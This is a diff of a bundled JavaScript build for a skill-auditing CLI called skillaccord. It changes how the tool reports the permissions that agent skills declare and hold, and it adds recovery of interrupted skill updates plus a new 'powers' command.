-			if (item.name === "network") return [power$1(item, "net", "*", "execution.network")];
-			return item.name === "destructive" ? [power$1(item, "mode", "destructive", "execution.destructive")] : [];
-		case "sensitive": return isSet(item, "value") ? [power$1(item, "secret", "sensitive data", "sensitive")] : [];
-		case "confirmation": return facetValue(item, "value") === "auto" ? [power$1(item, "mode", "recipes run unasked", "default_confirmation: auto")] : [];
-		case "provides": return item.name === "executable" && isSet(item, "value") ? [power$1(item, "run", "bundled module", "provides.executable")] : [];
-		default: return [];
-	}
-}
-const effectKinds = new Map([...[
-	["proc.exec", "run"],
-	["fs.read", "read"],
-	["fs.write", "write"],
-	["net.fetch", "net"]
-], ...[
-	"db.read",
-	"db.write",
-	"git.read",
-	"git.write"
-].map((name) => [name, name])]);
-const listKinds = new Map([
-	["filesystem_read", {
-		kind: "read",
-		form: "path"
-	}],
-	["filesystem_write", {
-		kind: "write",
-		form: "path"
-	}],
-	["network", {
-		kind: "net",
-		form: "domain"
-	}],
-	["env_read", {
-		kind: "secret",
-		form: "variable"
-	}]
-]);
-function namedPower(item, kind) {
-	return power$1(item, kind, kind === "effect" ? item.name : "*", item.name);
-}
-function listPowers(item) {
-	const list = listKinds.get(item.name);
-	if (!list) return isSet(item, "value") ? [power$1(item, "secret", "*", item.name)] : [];
-	return facetTexts(item, "value").map((entry) => ({
-		...power$1(item, list.kind, entry, `${item.name}: ${entry}`),
-		form: list.form
-	}));
-}
-function commandPowers(item) {
-	if (facetValue(item, "allowed") === false) return [];
-	const blocked = facetTexts(item, "blocked");
-	const commands = facetTexts(item, "commands");
-	if (commands.length > 0) return commands.map((command) => ({
-		...power$1(item, "run", command, `terminal_exec: ${command}`),
-		form: "command"
-	}));
-	return [power$1(item, "run", blocked.length === 0 ? "*" : `any but ${[...blocked].sort().join(", ")}`, "terminal_exec")];
-}
-function power$1(item, kind, scope, text) {
-	return {
-		kind,
-		scope,
-		text,
-		place: placeOf(item),
-		form: "name"
-	};
-}
-function placeOf(item) {
-	return item.facets.get("value")?.at ?? item.at;
-}
-// src/powers/declared/declared-powers.ts
-function declaredPowers(contract) {
-	return formedPowers(contract).map(({ kind, scope, text, place }) => ({
-		kind,
-		scope,
-		text,
-		place
-	}));
-}
-function formedPowers(contract) {
-	const byKey = new Map();
-	for (const power of contract.items.flatMap(itemPowers)) {
-		const key = [
-			power.kind,
-			power.scope,
-			power.text
-		].join("\0");
-		if (!byKey.has(key)) byKey.set(key, power);
-	}
-	return [...byKey.values()].sort(comparePowers);
-}
-function comparePowers(a, b) {
-	return declaredKinds.indexOf(a.kind) - declaredKinds.indexOf(b.kind) || Number(b.scope === "*") - Number(a.scope === "*") || compareText(a.scope, b.scope) || compareText(a.text, b.text);
-}
-// src/powers/declared/power-changes.ts
-function powerChanges(before, after) {
-	const [had, has] = [formedPowers(before), formedPowers(after)];
-	return {
-		gained: uncovered(had, has),
-		lost: uncovered(has, had)
-	};
-}
-function newPowers(after) {
-	return {
-		gained: declaredPowers(after),
-		lost: []
-	};
-}
-function uncovered(covering, powers) {
-	const unlimited = new Set(covering.filter(({ scope }) => scope === "*").map(({ kind }) => kind));
-	const coveringByForm = groupBy(covering, formKey);
-	const gaps = [...groupBy(powers, formKey)].map(([key, group]) => {
-		return [key, gapsOf(coveringByForm.get(key) ?? [], group)];
-	});
-	const gapsByForm = new Map(gaps);
-	return powers.filter((power) => !unlimited.has(power.kind) && gapsByForm.get(formKey(power))?.has(power)).map(({ kind, scope, text, place }) => ({
-		kind,
-		scope,
-		text,
-		place
-	}));
-}
-function formKey({ kind, form }) {
-	return `${form} ${kind}`;
-}
-function gapsOf(covering, powers) {
-	const form = powers[0]?.form ?? "name";
-	const [before, after] = [covering, powers].map((list) => list.map(({ scope }) => scope));
-	const gained = new Set(compareEntries$1(entries(form, before ?? []), entries(form, after ?? [])).gained);
-	return new Set(powers.filter(({ scope }) => gained.has(scope)));
-}
-function entries(of, value) {
-	return {
-		type: "entries",
-		of,
-		empty: "none",
-		value
-	};
-}
 // src/pipeline/report/granted-powers.ts
-function grantedPowers({ grants }, { powers: changes, unitPairs }) {
-	const powersByUnit = groupBy(grants.files.flatMap(({ powers }) => powers), ({ unit }) => unitKey(unit));
-	const changeOf = new Map(changes.flatMap((change) => isOfBase(change) ? [] : [[identityOf(change.power), change.change]]));
+function grantedPowers({ grants, skills }, { powers: changes, unitPairs }) {
+	const heldByUnit = groupBy([...skills.filter(({ isUnread }) => !isUnread).flatMap((skill) => held(declaredPowers(skill), [])), ...grants.files.flatMap(({ powers, carrier }) => held(powers, [findCarrier(carrier)?.client ?? ""]))], ({ power }) => unitKey(power.unit));
+	const changeOf = new Map(changes.flatMap((change) => isOfBase(change) ? [] : [[identityOf(change.power), change]]));
 	const headKey = (unit) => {
 		const successor = unitPairs.get(unitKey(unit));
 		return successor && unitKey(successor);
@@ -44368,12 +48859,35 @@ function grantedPowers({ grants }, { powers: changes, unitPairs }) {
 	const removedByUnit = groupBy(changes.filter(isOfBase), ({ power }) => headKey(power.unit) ?? "");
 	return (unit) => {
 		const key = unitKey(unit);
-		const granted = (powersByUnit.get(key) ?? []).map((power) => {
-			return [power, changeOf.get(identityOf(power)) ?? null];
+		const granted = (heldByUnit.get(key) ?? []).map(({ power, clients }) => {
+			return {
+				power,
+				clients,
+				change: changeOf.get(identityOf(power)) ?? null
+			};
 		});
-		const lost = (removedByUnit.get(key) ?? []).map(({ power, change }) => [power, change]);
-		return [...granted, ...lost].filter(([power, change]) => change !== null || !isUsual(power)).map(([power, change]) => cataloguePower(power, change));
+		const lost = (removedByUnit.get(key) ?? []).map((change) => {
+			return {
+				power: change.power,
+				clients: [],
+				change
+			};
+		});
+		return [...granted, ...lost].filter(({ power, change }) => change !== null || !isUsual(power));
 	};
+}
+function powerClients({ workspace, base = null }) {
+	const byPower = groupBy([...workspace.grants.files, ...base?.grants.files ?? []].flatMap(({ powers, carrier }) => held(powers, [findCarrier(carrier)?.client ?? ""])), ({ power }) => identityOf(power));
+	return (power) => {
+		const clients = (byPower.get(identityOf(power)) ?? []).flatMap((each) => each.clients);
+		return [...new Set(clients)].sort();
+	};
+}
+function held(powers, clients) {
+	return powers.map((power) => ({
+		power,
+		clients
+	}));
 }
 function isOfBase({ change, previous }) {
 	return change === "lost" || change === "undecided" && previous === null;
@@ -44390,33 +48904,7 @@ function identityOf(power) {
 	]);
 }
 function isUsual({ feature, isDefault = false }) {
-	return feature === "invocation" && isDefault;
-}
-function cataloguePower(power, change) {
-	const { kind, reach, trigger, at } = power;
-	const { verb, object, when, remarks } = powerWords(power);
-	const isAny = isEmpty$3(object) && reach === "any";
-	const scope = [
-		object,
-		when,
-		verb
-	].find((part) => !isEmpty$3(part)) ?? verb;
-	const brackets = remarks.length === 0 ? nothing$2 : msg`(${join$1(remarks, "; ")})`;
-	const isPlain = trigger.start === "turn" || trigger.start === "enabled" || isEmpty$3(object);
-	const parts = [
-		verb,
-		object,
-		when,
-		brackets
-	].filter((part) => !isEmpty$3(part));
-	return {
-		kind,
-		scope: isAny ? "*" : unmarkedText(scope),
-		place: at,
-		change,
-		text: unmarkedText(join$1(parts, " ")),
-		when: isPlain ? "" : plainText$1(triggerWords(trigger, power.unit.kind))
-	};
+	return isDefault && (feature === "invocation" || feature === "permission-mode");
 }
 // src/pipeline/report/skill-uses.ts
 function skillUses(workspace) {
@@ -44534,12 +49022,7 @@ function skillsOf({ workspace, judgements }, summaries, granted) {
 		if (!summary || skill.isUnread) return [];
 		const { name, root, dialects, version, status } = summary;
 		const hash = summary.contentHash ?? "";
-		const pair = pairByRoot.get(root) ?? null;
-		const secrets = secretsOf(skill, pair);
-		const skillPowers = [...comparedPowers(skill, pair), ...granted({
-			kind: "skill",
-			root
-		})];
+		const secrets = secretsOf(skill, pairByRoot.get(root) ?? null);
 		return [{
 			name,
 			root,
@@ -44553,7 +49036,10 @@ function skillsOf({ workspace, judgements }, summaries, granted) {
 				contract: skill.contract,
 				secrets
 			}),
-			powers: shown(skillPowers, secrets),
+			powers: shown(granted({
+				kind: "skill",
+				root
+			}), secrets),
 			uses: uses.get(skill) ?? []
 		}];
 	});
@@ -44577,41 +49063,41 @@ function unitsOf({ workspace }, granted) {
 function secretsOf(skill, pair) {
 	return pair?.before && pair.status !== "unchanged" ? secretsOfPair(pair).secrets : skill.secrets;
 }
-function comparedPowers(skill, pair) {
-	const { gained, lost } = changesOf(skill, pair);
-	const keyOf = ({ kind, scope, text }) => [
-		kind,
-		scope,
-		text
-	].join("\0");
-	const gainedKeys = new Set(gained.map(keyOf));
-	return [...declaredPowers(skill.contract).map((power) => ({
-		...power,
-		when: "",
-		change: gainedKeys.has(keyOf(power)) ? "gained" : null
-	})), ...lost.map((power) => ({
-		...power,
-		when: "",
-		change: "lost"
-	}))];
-}
-function shown(powers, secrets) {
+function shown(listed, secrets) {
 	const { text } = redactorFor(secrets);
 	const rank = ({ kind, change }) => catalogueKinds.indexOf(kind) + (change === "lost" ? catalogueKinds.length : 0);
-	return powers.map((power) => ({
+	return listed.map(cataloguePower).map((power) => ({
 		...power,
 		scope: text(power.scope),
 		text: text(power.text),
 		when: text(power.when)
 	})).sort((a, b) => rank(a) - rank(b));
 }
-function changesOf({ contract }, pair) {
-	const { before = null, status } = pair ?? {};
-	if (pair === null || status === "unchanged") return {
-		gained: [],
-		lost: []
+function cataloguePower({ power, change }) {
+	const { kind, reach, trigger, at } = power;
+	const { verb, object, when, remarks } = powerWords(power);
+	const isAny = reach === "any" && (isEmpty$3(object) || power.scope === "*");
+	const scope = [
+		object,
+		when,
+		verb
+	].find((part) => !isEmpty$3(part)) ?? verb;
+	const brackets = remarks.length === 0 ? nothing$2 : msg`(${join$1(remarks, "; ")})`;
+	const isPlain = trigger.start === "turn" || trigger.start === "enabled" || isEmpty$3(object);
+	const parts = [
+		verb,
+		object,
+		when,
+		brackets
+	].filter((part) => !isEmpty$3(part));
+	return {
+		kind,
+		scope: isAny ? "*" : unmarkedText(scope),
+		place: at,
+		change: change?.change ?? null,
+		text: unmarkedText(join$1(parts, " ")),
+		when: isPlain ? "" : plainText$1(triggerWords(trigger, power.unit.kind))
 	};
-	return before === null || before.unreadable ? newPowers(contract) : powerChanges(before.contract, contract);
 }
 // src/pipeline/report/drop-ignored.ts
 function dropIgnored(run, headConfig, baseConfig, previousByRoot) {
@@ -44882,101 +49368,6 @@ function skillSide(skill) {
 		...unreadable
 	};
 }
-// src/powers/compare/pair-units.ts
-function pairUnits(base, head, skillRoots) {
-	const pairing = new UnitPairing(candidatesOf(base), candidatesOf(head));
-	const skillIn = (root) => `skill\0${root}`;
-	pairing.where(({ unit }) => unit.kind === "skill", ({ unit }) => skillIn(skillRoots.get(unit.root) ?? unit.root), ({ unit }) => skillIn(unit.root));
-	const isPlugin = ({ unit }) => unit.kind === "plugin";
-	pairing.where(isPlugin, rootAndName);
-	pairing.where(isPlugin, ({ unit }) => unit.name);
-	pairing.where(isPlugin, ({ key }) => key);
-	pairing.bySkills(skillRoots);
-	const isOther = ({ unit }) => unit.kind !== "plugin" && unit.kind !== "skill";
-	pairing.where(isOther, rootAndName);
-	const [basePlugin, headPlugin] = [pluginLookup(base.units), pluginLookup(head.units)];
-	const successorOf = (plugin) => plugin && pairing.pairs.get(unitKey(plugin));
-	pairing.where(isOther, ({ unit }) => nameInPlugin(unit, successorOf(basePlugin(unit.root))), ({ unit }) => nameInPlugin(unit, headPlugin(unit.root)));
-	pairing.byContent(isOther);
-	pairing.where(isOther, ({ unit }) => unit.name === "" ? void 0 : kindAndName(unit));
-	pairing.where(isOther, ({ key }) => key);
-	return pairing.pairs;
-}
-function pathInHead({ path, unit }, to) {
-	if (path === unit.root) return to.root;
-	return isInside$2(path, unit.root) ? join$2(to.root, relativePath$1(unit.root, path)) : path;
-}
-function candidatesOf({ units, files }) {
-	const filesByUnit = groupBy(files, ({ unit }) => unitKey(unit));
-	return units.map((unit) => {
-		const key = unitKey(unit);
-		const ids = (filesByUnit.get(key) ?? []).map(({ id, carrier }) => id && `${carrier} ${id}`);
-		return {
-			unit,
-			key,
-			content: ids.length > 0 && ids.every((id) => id !== void 0) ? [unit.kind, ...ids].join("\0") : void 0
-		};
-	});
-}
-function rootAndName({ key, unit }) {
-	return `${key}\0${unit.name}`;
-}
-function kindAndName({ kind, name }) {
-	return `${kind}\0${name}`;
-}
-function nameInPlugin(unit, plugin) {
-	return plugin && `${kindAndName(unit)}\0${plugin.root}`;
-}
-function pluginLookup(units) {
-	const plugins = new Map(units.flatMap((unit) => unit.kind === "plugin" ? [[unit.root, unit]] : []));
-	return (root) => {
-		for (const folder of plugins.size > 0 ? selfAndAncestors(root) : []) {
-			const plugin = plugins.get(folder);
-			if (plugin) return plugin;
-		}
-	};
-}
-var UnitPairing = class {
-	pairs = new Map();
-	base;
-	head;
-	constructor(base, head) {
-		this.base = new Set(base);
-		this.head = new Set(head);
-	}
-	where(isMeant, baseKey, headKey = baseKey) {
-		const heads = groupBy([...this.head].filter(isMeant), headKey);
-		for (const [key, [before, ...others]] of groupBy([...this.base].filter(isMeant), baseKey)) {
-			const [after, ...more] = heads.get(key) ?? [];
-			const isUnique = key !== void 0 && others.length + more.length === 0;
-			if (before && after && isUnique) this.pair(before, after);
-		}
-	}
-	byContent(isMeant) {
-		const heads = groupBy([...this.head].filter(isMeant), ({ content }) => content);
-		for (const before of [...this.base].filter(isMeant)) {
-			const after = before.content === void 0 ? void 0 : heads.get(before.content)?.shift();
-			if (after) this.pair(before, after);
-		}
-	}
-	bySkills(skillRoots) {
-		const [basePlugin, headPlugin] = [this.base, this.head].map((side) => pluginLookup([...side].map(({ unit }) => unit)));
-		const targets = groupBy([...skillRoots].flatMap(([from, to]) => {
-			const [before, after] = [basePlugin(from), headPlugin(to)];
-			return before && after ? [[unitKey(before), unitKey(after)]] : [];
-		}), ([from]) => from);
-		this.where(({ unit }) => unit.kind === "plugin", ({ key }) => singleValue((targets.get(key) ?? []).map(([, to]) => to)), ({ key }) => key);
-	}
-	pair(before, after) {
-		this.base.delete(before);
-		this.head.delete(after);
-		this.pairs.set(before.key, after.unit);
-	}
-};
-function singleValue(values) {
-	const [first, second] = new Set(values);
-	return second === void 0 ? first : void 0;
-}
 // src/powers/compare/shipping-unit.ts
 function shippingUnits(units) {
 	const pluginAt = pluginLookup(units.filter(({ version }) => version !== null));
@@ -44987,7 +49378,8 @@ function shippingUnits(units) {
 	};
 }
 // src/pipeline/compare/bump-of-change.ts
-function bumpOf({ isSameCommand }) {
+function bumpOf({ power, isSameCommand }) {
+	if (power.feature === "declared") return "none";
 	return isSameCommand ? "patch" : "minor";
 }
 // src/pipeline/report/unit-summaries.ts
@@ -45138,9 +49530,9 @@ function countTotals({ findings, workspace, judgements }, counted, changes) {
 		requiredBump: largestBump(judgements.map(({ required }) => required ?? "none"))
 	};
 }
-function isNewPrivilege({ rule, state, category, severity, bump }) {
+function isNewPrivilege({ topic, state, category, severity, bump }) {
 	if (state !== "new") return false;
-	if (rule === newSkillPermissions.id) return true;
+	if (topic === "new-unit") return true;
 	return category === "privilege" && bump !== null && severity !== "note";
 }
 function lockSummary(lock, lookup, ignoredSkills) {
@@ -45356,7 +49748,7 @@ function nameIn({ root }, { path }) {
 	return isInside$2(path, root) ? relativePath$1(root, path) : path;
 }
 // src/pipeline/report.ts
-function createReport(run, settings, { only = [], reportsCatalogue = false, reportsUnitChanges = false }) {
+function createReport(run, settings, { only = [], reportsCatalogue = false, reportsUnitChanges = false, reportsClients = false }) {
 	const { config, configFiles } = settings;
 	const { previousByRoot } = settings.findingSettings;
 	const visible = dropIgnored(run, config, configFiles.trustedConfig, previousByRoot);
@@ -45371,6 +49763,7 @@ function createReport(run, settings, { only = [], reportsCatalogue = false, repo
 	const report = {
 		...summarize(limited, config, configFiles),
 		pendingDenials: pending,
+		...reportsClients && { clientsOf: powerClients(run) },
 		...reportsUnitChanges && { unitChanges: unitChanges(visible, only) }
 	};
 	return reportsCatalogue ? {
@@ -45403,7 +49796,7 @@ async function check$1(sides, config, configFiles = noConfigFiles, others = noth
 	const comparison = await compareAll(trees, sides, treeConfig);
 	const judgements = judgeAll(comparison, settings, {
 		pinsOf: versionPins(head.protos),
-		vendoredPairOf: vendoredPairs(head, base),
+		...recordLookup(head, base),
 		retirementOf: retirements(head, base)
 	});
 	const plugins = await judgePlugins({
@@ -45412,13 +49805,19 @@ async function check$1(sides, config, configFiles = noConfigFiles, others = noth
 		powers: comparison.powers,
 		sides
 	}, settings);
-	const related = withGrowth(relations.head, comparison.powers, head.grants);
+	const related = withGrowth(relations.head, comparison.powers, head.grants, comparison.isNewlyOffered);
+	const grantFaults = relateGrantFaults(head, base, comparison.unitPairs);
 	const findings = [
 		...applyBaseline([
 			...draftsOf(analyses.head),
 			...related,
+			...grantFaults.head,
 			...comparison.drafts
-		], [...draftsOf(analyses.base), ...relations.base], trees, settings.findingSettings),
+		], [
+			...draftsOf(analyses.base),
+			...relations.base,
+			...grantFaults.base
+		], trees, settings.findingSettings),
 		...judgements.flatMap((judgement) => judgement.findings),
 		...toFindings(plugins.drafts, settings.findingSettings)
 	];
@@ -45581,6 +49980,9 @@ function requireEach({ named, only = [] }, predicate, advice) {
 	if (empty.length === 0) return;
 	throw new UsageError(`There is no skill at ${empty.map((name) => `"${name}"`).join(", ")}.`, advice);
 }
+function unitPaths(units) {
+	return units.flatMap(({ kind, root, powers }) => [...kind === "repository" ? [] : [root], ...powers.map(({ at }) => at.path)]);
+}
 function checkablePaths({ report, head, base, config, file }) {
 	const baseSkills = base ? discover(base.entries, config).skills : [];
 	const protos = [...protosByName(head, config).values()].flat();
@@ -45589,6 +49991,7 @@ function checkablePaths({ report, head, base, config, file }) {
 		files: [
 			...report.findings.map(({ at }) => at.path),
 			...report.locks.map(({ path }) => path),
+			...unitPaths(report.units),
 			...discover(head.entries, config).listings,
 			...protos,
 			...file === null ? [] : [file.path]
@@ -47333,7 +51736,7 @@ async function workTree(repository, knownSettings = readGitSettings(repository))
 		]),
 		Promise.resolve(knownSettings).then((known) => readStatus(repository, known))
 	]);
-	const index = parseListing(listing);
+	const index = parseListing(listing).filter(({ path, oid }) => oid !== null || !isTempFile(path));
 	const submodules = parseSubmodules(listing);
 	const nested = nestedFiles(top, index, submodules);
 	const listed = nested.files.length === 0 ? index : [...index, ...nested.files].sort((a, b) => compareText(a.path, b.path));
@@ -47371,7 +51774,7 @@ async function stagedPaths(repository) {
 }
 function changedFiles(listed, present) {
 	return listed.flatMap(({ path, mode, oid }) => {
-		if (oid === null) return isTempFile(path) ? [] : [path];
+		if (oid === null) return [path];
 		return present.get(path)?.kind === kindOf(mode ?? "") ? [] : [path];
 	});
 }
@@ -48542,6 +52945,217 @@ function realPathOf(file) {
 		return file;
 	}
 }
+// src/io/disk/together/owner.ts
+function ownProcess() {
+	return {
+		pid: process.pid,
+		machine: machine(),
+		start: startOf(process.pid)
+	};
+}
+function isOwner(value) {
+	if (typeof value !== "object" || value === null) return false;
+	return "pid" in value && Number.isInteger(value.pid) && "machine" in value && "start" in value;
+}
+const maxAge = 6e5;
+function mayStillWrite(owner, since) {
+	if (Date.now() - since > maxAge) return false;
+	if (owner.machine !== machine()) return true;
+	return isRunning(owner.pid) && owner.start === startOf(owner.pid);
+}
+function machine() {
+	return `${hostname()} ${procText(() => readlinkSync("/proc/self/ns/pid"))}`;
+}
+function startOf(pid) {
+	const status = procText(() => readFileSync(`/proc/${pid}/stat`, "latin1"));
+	return status.slice(status.lastIndexOf(")")).split(" ")[20] ?? null;
+}
+function procText(read) {
+	try {
+		return read();
+	} catch {
+		return "";
+	}
+}
+// src/io/disk/together/journal.ts
+function oldPlace(state, index) {
+	return join(state, `old-${index}`);
+}
+function newPlace(state, index) {
+	return join(state, `new-${index}`);
+}
+function journalPlace(state) {
+	return join(state, "journal.json");
+}
+function ownerPlace(state) {
+	return join(state, "owner.json");
+}
+function stateFolder({ top, gitDir }) {
+	return gitDir !== null && statSync(gitDir).dev === statSync(top).dev ? join(gitDir, "skillaccord-update") : join(top, ".skillaccord-update");
+}
+function stateTime(state) {
+	const stat = lstatSync(state, { throwIfNoEntry: false });
+	return stat?.isDirectory() ? stat.mtimeMs : null;
+}
+function readJournal(state) {
+	const journal = readJson(journalPlace(state));
+	try {
+		return [...journal?.steps.map(({ path }) => path) ?? [], ...journal?.folders ?? []].every(isInsideTree) && journal?.names.every((name) => typeof name === "string") && isOwner(journal.owner) ? journal : null;
+	} catch {
+		return null;
+	}
+}
+function readOwner(state) {
+	const owner = readJson(ownerPlace(state));
+	return isOwner(owner) ? owner : null;
+}
+function readJson(path) {
+	try {
+		return JSON.parse(readFileSync(path, "utf8"));
+	} catch {
+		return null;
+	}
+}
+function isInsideTree(path) {
+	return typeof path === "string" && path.split("/").every((part) => !/^(?:|\.\.?|\.git)$/i.test(part) && !part.includes("\\"));
+}
+// src/io/disk/together/place-state.ts
+function idAt(top, path) {
+	if (isBehindLink(top, path)) return void 0;
+	const stat = lstatSafely(diskPath(top, path));
+	if (stat === void 0) return null;
+	return stat?.isFile() ? blobId(readFileSync(diskPath(top, path))) : void 0;
+}
+function isBehindLink(top, path) {
+	return [...selfAndAncestors(path)].some((ancestor) => ancestor !== "" && lstatSafely(diskPath(top, ancestor))?.isSymbolicLink());
+}
+function foldersAbove(path) {
+	return [...selfAndAncestors(folderOf(path))].filter((folder) => folder !== "");
+}
+function findObstacle(top, { path, before }, toDo) {
+	const removed = new Set(toDo.flatMap(({ path: place, after }) => after === null ? place.toLowerCase() : []));
+	for (const folder of foldersAbove(path)) {
+		const stat = lstatSafely(diskPath(top, folder));
+		if (!(removed.has(folder.toLowerCase()) || toDo.length > 0 && stat === void 0) && !stat?.isDirectory()) return `"${folder}" is not a directory.`;
+	}
+	const stat = lstatSafely(diskPath(top, path));
+	if (before === null) return stat === void 0 || stat?.isDirectory() || removed.has(path.toLowerCase()) ? null : `"${path}" is not a file of the skill and in the way of a new one.`;
+	if (!stat?.isFile()) return `"${path}" is not a regular file.`;
+	return idAt(top, path) === before ? null : `"${path}" has changed meanwhile.`;
+}
+function removeEmptyFolder(top, folder) {
+	try {
+		if (!isBehindLink(top, folder)) rmdirSync(diskPath(top, folder));
+	} catch {}
+}
+// src/io/disk/together/take-back.ts
+function findRemains(place) {
+	const state = stateFolder(place);
+	const time = stateTime(state);
+	if (time === null) return "none";
+	const journal = readJournal(state);
+	const owner = journal?.owner ?? readOwner(state);
+	if (owner && mayStillWrite(owner, time)) return "running";
+	return journal && isToTakeBack(place.top, writtenSteps(state, journal)) ? journal : "none";
+}
+function runningError(place) {
+	return new UsageError("Another process updates skills here.", `If none does, remove "${stateFolder(place)}".`);
+}
+function endEarlierRun(place) {
+	const { top } = place;
+	const state = stateFolder(place);
+	if (stateTime(state) === null) return null;
+	const journal = readJournal(state);
+	if (journal) return takeBack(top, state, journal);
+	rmSync(state, {
+		recursive: true,
+		force: true
+	});
+	return null;
+}
+function takeBack(top, state, journal) {
+	const written = writtenSteps(state, journal);
+	const hasRestored = isRestored(top, written);
+	const restore = (isChosen) => written.filter(([index, step]) => isChosen(step) && !tryRestore(top, state, index, step));
+	const left = [...restore(({ before }) => before === null), ...restore(({ before, after }) => before !== null && after !== null)];
+	for (const folder of journal.folders.toReversed()) removeEmptyFolder(top, folder);
+	left.push(...hasRestored ? written.filter(([, { path, before, after }]) => after === null && idAt(top, path) !== before) : restore(({ after }) => after === null));
+	if (written.length === 0) removeEmptiedFolders(top, journal);
+	if (left.length > 0) return keep(state);
+	rmSync(state, {
+		recursive: true,
+		force: true
+	});
+	return null;
+}
+function writtenSteps(state, { steps }) {
+	const last = steps.length - 1;
+	if (last < 0 || !existsSync(newPlace(state, last))) return [];
+	return [...steps.slice(0, last).entries()].filter(([index, { after }]) => after === null ? existsSync(oldPlace(state, index)) : !existsSync(newPlace(state, index)));
+}
+function isToTakeBack(top, written) {
+	const isOwners = isRestored(top, written);
+	return written.some((step) => isAsWritten(top, step) && !(isOwners && step[1].after === null));
+}
+function isRestored(top, written) {
+	const replaced = written.filter(([, { before, after }]) => before !== null && after !== null);
+	return replaced.length > 0 && !replaced.some((step) => isAsWritten(top, step));
+}
+function isAsWritten(top, [, { path, after }]) {
+	return idAt(top, path) === after;
+}
+function tryRestore(top, state, index, step) {
+	const path = diskPath(top, step.path);
+	try {
+		const id = idAt(top, step.path);
+		if (id !== step.after) return id === step.before || step.before === null;
+		if (step.after === null) mkdirSync(diskPath(top, folderOf(step.path)), { recursive: true });
+		if (step.before === null) renameSync(path, newPlace(state, index));
+		else renameSync(oldPlace(state, index), path);
+		return true;
+	} catch {
+		return false;
+	}
+}
+function keep(state) {
+	const kept = `${state}-${new Date().toISOString().replaceAll(/[:.]/g, "-")}`;
+	renameSync(state, kept);
+	return kept;
+}
+function removeEmptiedFolders(top, { steps }) {
+	for (const { path, after } of steps) {
+		if (after !== null) continue;
+		for (const folder of foldersAbove(path)) removeEmptyFolder(top, folder);
+	}
+}
+// src/cli/interrupted-update.ts
+function placeOf(top) {
+	return {
+		top,
+		gitDir: findRepository(top).repository?.gitDir ?? null
+	};
+}
+function mentionInterrupted(top, { printError }) {
+	const remains = findRemains(placeOf(top));
+	if (typeof remains === "object") printError(`${sentences(remains).join(" ")}\n`);
+}
+function requireOwnUpdate(place, names) {
+	const remains = findRemains(place);
+	if (remains === "running") throw runningError(place);
+	if (typeof remains !== "object") return false;
+	const named = new Set(names.map((name) => name.toLowerCase()));
+	const [fact = "", remedy] = sentences(remains);
+	if (!remains.names.some((name) => named.has(name.toLowerCase()))) throw new UsageError(fact, remedy);
+	return true;
+}
+function sentences({ names }) {
+	const command = [
+		"skillaccord",
+		"update",
+		...names
+	].map(shellPath).join(" ");
+	return [`An update of ${names.join(", ")} was interrupted: some of its files are here.`, `${command} takes them back first.`];
+}
 // src/io/command-version.ts
 const defaultTimeoutMs = 5e3;
 const maxOutputLength = 65536;
@@ -48790,6 +53404,7 @@ async function runCheck(args, world, { paths, output, restore }) {
 		config: settings,
 		file: configFiles.headFile
 	});
+	mentionInterrupted(top, world);
 	const noBaseReason = baseArgument === "none" ? null : noBaseReasonOf(sides, report);
 	const formatPath = relativePathsFrom(world.cwd, top);
 	await printReport(output, world, report, {
@@ -48908,7 +53523,6 @@ function overview(commands, width) {
 	return `${prose(`skillaccord ${tool.version}: continuous integration for agent skills`, width)}
 
 Usage: skillaccord [COMMAND] [OPTIONS]
-${prose("Without a command it checks the repository around the current directory.", width)}
 
 ${lines(rows, width)}
 
@@ -48970,6 +53584,7 @@ const loaders = {
 	lock: async () => (await import("./lock2.js")).lock,
 	merge: async () => (await import("./merge.js")).merge,
 	outdated: async () => (await import("./outdated.js")).outdated,
+	powers: async () => (await import("./powers.js")).powers,
 	update: async () => (await import("./update.js")).update
 };
 function loadAllCommands() {
@@ -49066,4 +53681,4 @@ async function chooseCommand(argv, { cwd }) {
 		args: [...argv]
 	};
 }
-export { withCommonIgnores as $, blocksHtml as $a, placeholdersIn as $i, everything as $n, entryKinds as $o, isHarmless as $r, releaseTag as $s, maxBump as $t, errorLine as A, source as Aa, toolGroup as Ai, dialects as An, plainFindings as Ao, newName as Ar, globalOptions as As, powerSeverity as At, ignoredSentences as B, unreadSubmodules as Ba, isOffByDefault as Bi, membersOf as Bn, require_compare as Bo, skillTomlContract as Br, neutralizeCommands as Bs, analyseAll as Bt, remoteUrl as C, asWritten as Ca, previousSkillsByRoot as Ci, fileUnreadable as Cn, textColumns as Co, entrypointName as Cr, truncate as Cs, blobId as Ct, lstatSafely as D, items as Da, unlimitedPolicy as Di, describeBase as Dn, unitPermissions as Do, keywordTransition as Dr, policyKeyNames as Ds, settingLocation as Dt, diskPath as E, get as Ea, noConfigFiles as Ei, blockSyntax as En, permissionRows as Eo, itemName as Er, isLowerLevel as Es, keyLocation as Et, killGroup as F, contentHash as Fa, levels$1 as Fi, moduleText as Fn, missingVersion as Fo, valueChange as Fr, withUsageErrors as Fs, toFindings as Ft, withProto as G, powerChangeJson as Ga, readOutputSettings as Gi, isSelfContained as Gn, isAtLeast as Go, formatVersionKey as Gr, isInside$2 as Gs, sourceOf as Gt, compareEntries as H, writeMarkdown as Ha, worklogSkill as Hi, withoutReferences as Hn, line as Ho, baseDirectoryOf as Hr, encodePath as Hs, nothingKnown as Ht, trackChild as I, filesDiffer as Ia, acceptanceKey as Ii, planModuleText as In, versionChange as Io, valueOrNone as Ir, makeInert as Is, findingSettings as It, bumpOf as J, maxPageBytes as Ja, pathWithin$1 as Ji, kinds$2 as Jn, compareText as Jo, hasDefault as Jr, relativePath$1 as Js, treeRules as Jt, check$1 as K, powerJson as Ka, renderOptions as Ki, bottom as Kn, severityRank as Ko, hasAllowedTools as Kr, join$2 as Ks, byId as Kt, loadTrustedConfig as L, haveSameContent as La, subjectOf as Li, keyTypo as Ln, declaredBump as Lo, valueTransition as Lr, escapeInvisible as Ls, levelOf as Lt, runGit as M, toJson as Ma, coversCommand as Mi, migratedBlock as Mn, compareNatural as Mo, pathTransition as Mr, didYouMean as Ms, originInFrontmatter as Mt, splitNulTerminated as N, matcher as Na, isPlainCommand as Ni, applyEdits as Nn, sortNaturally as No, semanticNote as Nr, readUserPath as Ns, skillRenamed as Nt, readFile as O, parsePointer as Oa, compareTools as Oi, describeManifest as On, plainLine$2 as Oo, names$1 as Or, scopes as Os, metadataChanged as Ot, killChildren as P, pathGlob as Pa, prefixesOf as Pi, editsOverlap as Pn, isChanged as Po, transitionSuffix as Pr, statUserPath as Ps, skillRemoved as Pt, versionTuple as Q, foldFilter as Qa, builtInPlaceholders as Qi, complement as Qn, connections as Qo, isDeclaredInDetailOnBothSides as Qr, UsageError as Qs, largestBump as Qt, completeTree as R, 